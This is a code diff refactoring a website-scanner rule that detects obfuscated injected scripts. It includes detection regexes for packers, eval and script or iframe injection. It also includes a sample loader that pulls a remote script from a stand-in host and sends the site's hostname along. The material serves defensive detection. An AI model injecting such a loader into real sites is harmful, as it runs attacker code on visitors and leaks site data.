@@ -9,10 +9,10 @@ import { BICYCLE, BREAD, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
 import type { ScriptAct } from '../../script/structure.ts';
 import { NUMBER, SIGN, STRING, TEMPLATE } from '../../script/tokens.ts';
 import { examplePage, paragraphs } from '../example.ts';
-import type { Quote } from '../quote.ts';
 import { quoteAct, quoteCode } from '../quote-script.ts';
 import { abstain, CLEAR, rule } from '../rule.ts';
-import { type Said, sentences } from '../sentences.ts';
+import { sentences } from '../sentences.ts';
+import { findingOf, type Sign } from '../signs.ts';
 import { countPl, number } from '../wording.ts';
 
 /** Characters of encoded material that nothing but a hidden program needs. */
@@ -40,12 +40,6 @@ const RENAMED_NAMES = /\b_0x[0-9a-f]{3,8}\b/g;
 const PACKER = /function\s*\(p,\s*a,\s*c,\s*k,\s*e/;
 const CODE = /createElement|appendChild|<script|<iframe|document\.write|location(?:\.href)?\s*=|eval\(/;
 const LOADS = /<\s*(script|iframe)\b[^>]{0,300}?\bsrc\s*=\s*\\?['"]?([^'"\s>\\]{4,300})/i;
-
-interface Sign {
-  readonly score: number;
-  readonly says: Said;
-  readonly quote: Quote | undefined;
-}
 
 const EXAMPLE_LOADER =
   "(function(){var s=document.createElement('script');s.src='https://cdn-stats-x.top/l.js?d='+location.host;document.head.appendChild(s)})()";
@@ -87,7 +81,7 @@ export default rule({
     pl: 'Zamaskowany skrypt ukrywa, co wczytuje',
   },
   fix: {
-    en: 'Find out where the script comes from, remove it, and close the hole through which it came in (outdated plugins, stolen passwords).',
+    en: 'Find out where the script comes from, remove it, and close the hole it came in by (outdated plugins, stolen passwords).',
     pl: 'Ustal, skąd wziął się skrypt, usuń go i zamknij lukę, przez którą się dostał (nieaktualne wtyczki, skradzione hasła).',
   },
   question:
@@ -104,16 +98,8 @@ export default rule({
   detect(page) {
     // A robot check is nothing but such a script, and not the page's own.
     if (page.flags.challenge) return abstain('not_applicable');
-    const signs = codePieces(page)
-      .flatMap((piece) => signsOf(page, piece))
-      .sort((a, b) => b.score - a.score);
-    const worst = signs[0];
-    if (!worst) return CLEAR;
-    return {
-      score: worst.score,
-      quotes: signs.slice(0, 3).map((sign) => sign.quote),
-      facts: [...new Map(signs.map((sign) => [JSON.stringify(sign.says), sign.says])).values()].slice(0, 3),
-    };
+    const signs = codePieces(page).flatMap((piece) => signsOf(page, piece));
+    return findingOf(signs) ?? CLEAR;
   },
   examples: () => ({
     hit: [
